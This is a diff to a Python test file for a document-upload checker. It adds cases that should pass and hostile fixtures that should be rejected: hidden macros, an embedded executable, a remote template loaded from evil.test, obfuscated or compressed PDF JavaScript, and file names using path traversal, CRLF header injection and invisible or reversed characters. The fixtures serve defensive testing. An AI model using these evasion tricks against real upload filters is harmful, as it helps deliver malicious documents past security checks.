@@ -44,6 +44,13 @@ PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%
         ("Concept note.pdf", PDF, "pdf"),
         ("Budget 2027 Niger æøå.docx", office(), "docx"),
         ("Logframe.XLSX", office(SHEET), "xlsx"),
+        ("Chart.docx", office(**{"word__embeddings__Data.xlsx": b"x"}), "docx"),
+        ("Long table.xlsx", office(SHEET, xl__sheet=b"<c/>" * 2_000_000), "xlsx"),
+        (
+            "Notes with binary.pdf",
+            PDF.replace(b"trailer", b"3 0 obj <<>> stream\n\x01/JS\x02\nendstream\ntrailer"),
+            "pdf",
+        ),
         ("kort.png", PNG, "png"),
         ("photo.jpeg", JPEG, "jpg"),
         ("photo.jpg", JPEG, "jpg"),
@@ -51,6 +58,17 @@ PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%
 )
 def test_a_plain_file_is_taken(name: str, data: bytes, kind: str) -> None:
     assert judge(name, data) == MEDIA_TYPES[kind]
+
+
+REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'
+
+
+def packed(objects: bytes) -> bytes:
+    """A PDF whose objects are inside a compressed stream."""
+    stream = (
+        b"2 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + zlib.compress(objects) + b"\nendstream endobj\n"
+    )
+    return PDF.replace(b"trailer", stream + b"trailer")
 
 
 def overlapping() -> bytes:
@@ -100,6 +118,13 @@ HOSTILE = {
     "another kind than its name": ("a.pdf", PNG),
     "cut off": ("a.docx", office()[:-30]),
     "empty": ("a.pdf", b""),
+    "macros under another name": ("a.docx", office(b"application/vnd.ms-word.document.macroEnabled.main+xml" + WORD)),
+    "an executable inside": ("a.docx", office(**{"word__media__run.exe": b"MZ"})),
+    "a template from elsewhere": ("a.docx", office(**{"word__settings.rels": REMOTE})),
+    "a script under an escaped name": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /J#61vaScript (x)")),
+    "an embedded file": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /EmbeddedFiles 2 0 R")),
+    "a script in a packed stream": ("a.pdf", packed(b"<</S /JavaScript /JS (x)>>")),
+    "name with an invisible sign": ("a\u200b.pdf", PDF),
     "name with a path": ("../../a.pdf", PDF),
     "name with CR LF": ("a\r\nSet-Cookie: x.pdf", PDF),
     "name turned round": ("a\u202efdp.exe.pdf", PDF),
